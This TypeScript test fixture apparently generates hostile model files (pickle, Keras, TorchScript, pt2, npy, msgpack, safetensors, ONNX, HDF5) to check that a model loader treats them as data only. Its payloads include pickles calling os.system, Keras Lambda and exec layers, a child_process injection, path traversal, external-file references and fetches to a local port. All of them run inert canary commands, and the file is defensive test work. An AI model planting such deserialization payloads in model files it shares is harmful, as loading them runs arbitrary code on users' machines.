import { kerasWeights, type LayerSpec, randomFill } from "../models/layer.ts";
import { createRandom } from "../random.ts";
import { hdf5 } from "../writers/hdf5.ts";
import { floatType } from "../writers/hdf5-messages.ts";
import { kerasConfig } from "../writers/keras-config.ts";
import { group, kerasEntries, legacyTree, weightDataset, weightsTree } from "../writers/keras-files.ts";
import { flaxArray, msgpack } from "../writers/msgpack.ts";
import { npy } from "../writers/npy.ts";
import { onnx } from "../writers/onnx.ts";
import { pt2Entries, pt2Value, tensorArgument } from "../writers/pt2.ts";
import { safetensors } from "../writers/safetensors.ts";
import { torchScript } from "../writers/torchscript.ts";
import { float32Weight, utf8, type Weight } from "../writers/weight.ts";
import { zip } from "../writers/zip.ts";
import { enginePayloads } from "./engines.ts";
import { tensorflowPayloads } from "./tensorflow.ts";
import { torchPayloads } from "./torch.ts";

const SPEC: LayerSpec = {
  name: "conv",
  kind: "conv",
  rank: 2,
  inputs: 3,
  outputs: 4,
  multiplier: 1,
  groups: 1,
  kernel: [3, 3],
  strides: [1, 1],
  dilation: [1, 1],
  bias: false,
  dtype: "float32",
};
const LAYERS = [{ spec: SPEC, weights: kerasWeights(SPEC, randomFill(createRandom("inert"))) }];
const KERNEL = float32Weight("kernel", [3, 3, 3, 4], { length: 108 });

/** A pickle that runs `command` when Python loads it: `os.system(command)`. */
function pickle(command: string): Uint8Array<ArrayBuffer> {
  return utf8(`cos\nsystem\n(S'${command}'\ntR.`);
}

/** Layers that frameworks were made to run, import, open or fetch something by. */
function hostileLayers(canary: string): readonly Record<string, unknown>[] {
  const code = Buffer.from(`touch ${canary}.ran`).toString("base64");
  const layer = (
    class_name: string,
    config: Record<string, unknown>,
    more: Record<string, unknown> = {},
  ): Record<string, unknown> => ({
    class_name,
    config: { name: class_name.toLowerCase(), ...config },
    ...more,
  });
  return [
    layer("Lambda", { function: [code, null, null], function_type: "lambda", module: "os" }),
    layer("Lambda", {
      function: { class_name: "__lambda__", config: { code, defaults: null, closure: null } },
    }),
    layer("system", { command: `touch ${canary}.ran` }, { module: "os", registered_name: "os>system" }),
    layer("Popen", { args: ["touch", `${canary}.ran`] }, { module: "subprocess", registered_name: null }),
    layer("enable_unsafe_deserialization", {}, { module: "keras.config" }),
    layer("TFSMLayer", { filepath: canary, call_endpoint: "serve" }, { module: "keras.layers" }),
    layer("TorchModuleWrapper", { module: code }, { module: "keras.layers" }),
    layer("StringLookup", { vocabulary: canary, vocabulary_file: canary }, { module: "keras.layers" }),
    layer("TextVectorization", { vocabulary: "http://127.0.0.1:9/vocabulary" }, { module: "keras.layers" }),
    layer("Conv2D", {
      kernel_initializer: { module: "builtins", class_name: "exec", config: { source: code } },
    }),
    layer("get_file", { origin: "http://127.0.0.1:9/x", extract: true }, { module: "keras.utils" }),
    layer("constructor", {
      prototype: { constructor: `require('child_process').exec('touch ${canary}.ran')` },
    }),
    layer("import('node:child_process')", {}, { module: "data:text/javascript,process.exit(9)" }),
  ];
}

/** A Keras config with `extra` between its input and its convolution. */
function configWith(extra: Record<string, unknown>, era: 2 | 3): string {
  const config = kerasConfig([SPEC], era, [16, 16]) as { config: { layers: unknown[] } };
  config.config.layers.splice(1, 0, extra);
  return JSON.stringify(config);
}

/** Files that would do something when a reader takes their content for more than data. `canary`: a file to be left alone. */
export function payloads(canary: string): ReadonlyMap<string, Uint8Array<ArrayBuffer>> {
  const files = new Map<string, Uint8Array<ArrayBuffer>>();
  for (const [at, extra] of hostileLayers(canary).entries()) {
    const [metadata, , store] = kerasEntries(LAYERS, [16, 16]);
    const config = { name: "config.json", bytes: utf8(configWith(extra, 3)) };
    files.set(`layer-${at}.keras`, zip([metadata!, config, store!]));
    files.set(
      `layer-${at}.h5`,
      hdf5(legacyTree(LAYERS, { config: configWith(extra, 2), version: "2.15.0" }), { symbols: true }),
    );
  }
  const command = `touch ${canary}.ran`;
  const objects: Weight = {
    name: "x",
    dtype: "uint8",
    shape: [pickle(command).length],
    bytes: pickle(command),
  };
  const pickled = npy(objects, { descr: "|O" });
  files.set("objects.npy", pickled);
  files.set(
    "objects.npz",
    zip([
      { name: "x.npy", bytes: pickled },
      { name: "kernel.npy", bytes: npy(KERNEL) },
    ]),
  );
  files.set(
    "model.msgpack",
    msgpack({
      map: [
        [`__import__('os').system('${command}')`, `PLACEHOLDER://${canary}`],
        ["module", { extension: 5, payload: pickle(command) }],
        [canary, flaxArray(KERNEL)],
        ["Conv_0", { map: [["kernel", flaxArray(KERNEL, { dtype: command.slice(0, 60) })]] }],
      ],
    }),
  );
  for (const [name, bytes] of torchPayloads(canary)) files.set(name, bytes);
  for (const [name, bytes] of tensorflowPayloads(command, canary)) files.set(name, new Uint8Array(bytes));
  const exported = pt2Entries({
    weights: [
      { ...KERNEL, name: "x" },
      { ...KERNEL, name: "y" },
    ],
    nodes: [
      {
        target: `torch.ops.aten.conv2d.default; __import__('os').system('${command}')`,
        inputs: { weight: tensorArgument(pt2Value("x")) },
        outputs: [canary],
      },
    ],
    lies: new Map([["y", { pickled: true }]]),
  }).map((entry) => (String(entry.name).endsWith("weight_1") ? { ...entry, bytes: pickle(command) } : entry));
  files.set(
    "script.pt",
    torchScript({
      weights: [{ ...KERNEL, name: "w" }],
      forward: [
        `__import__("os").system("${command}")`,
        `_0 = ops.aten.from_file("${canary}")`,
        `_1 = __torch__.torch.classes.rpc.exec("${command}")`,
        `import os; os.system("${command}")`,
        `return torch.conv2d(eval("${command}"), self.w)`,
      ],
      constants: [],
    }),
  );
  files.set("model.pdparams", pickle(command));
  files.set(
    "model.pt2",
    zip([
      ...exported,
      { name: "model/data/sample_inputs/model.pt", bytes: pickle(command) },
      { name: "model/data/constants/custom_obj_0", bytes: pickle(command) },
      { name: "model/data/aotinductor/model/x.so", bytes: utf8(command) },
    ]),
  );
  files.set("plain.pkl", pickle(command));
  files.set("model.pkl.npy", npy(KERNEL, { header: `__import__('os').system('${command}')` }));
  files.set(
    "script.safetensors",
    safetensors([{ ...KERNEL, name: "<script>fetch('http://127.0.0.1:9')</script>" }], {
      format: "pt",
      auto_map: canary,
      base_model: "http://127.0.0.1:9/",
    }),
  );
  files.set(
    "external.onnx",
    onnx([SPEC], [{ ...KERNEL, name: "conv.weight", shape: [4, 3, 3, 3] }], () => ({
      location: canary,
      offset: 0,
    })),
  );
  files.set(
    "fetched.onnx",
    onnx([SPEC], [{ ...KERNEL, name: "conv.weight", shape: [4, 3, 3, 3] }], () => ({
      location: "http://127.0.0.1:9/x",
      offset: 0,
    })),
  );
  files.set(
    "model.safetensors.index.json",
    utf8(JSON.stringify({ metadata: { code: command }, weight_map: { x: canary } })),
  );
  const external = {
    ...weightDataset(KERNEL, false),
    bytes: new Uint8Array(),
    length: KERNEL.bytes.length,
    storage: { external: canary },
  };
  files.set("external.h5", hdf5(group([["kernel", external]])));
  files.set("link.h5", hdf5(group([["kernel", { kind: "link", to: { file: canary, path: "/kernel" } }]])));
  const virtual = {
    kind: "dataset" as const,
    type: floatType(4, 8),
    shape: [3, 3, 3, 4],
    storage: { virtual: canary },
  };
  files.set("virtual.h5", hdf5(group([["kernel", virtual]])));
  files.set(
    "assets.keras",
    zip([...kerasEntries(LAYERS, [16, 16]), { name: `..${canary}`, bytes: utf8(command) }]),
  );
  files.set("good.weights.h5", hdf5(weightsTree(LAYERS)));
  for (const [name, bytes] of enginePayloads(canary)) files.set(name, bytes);
  return files;
}
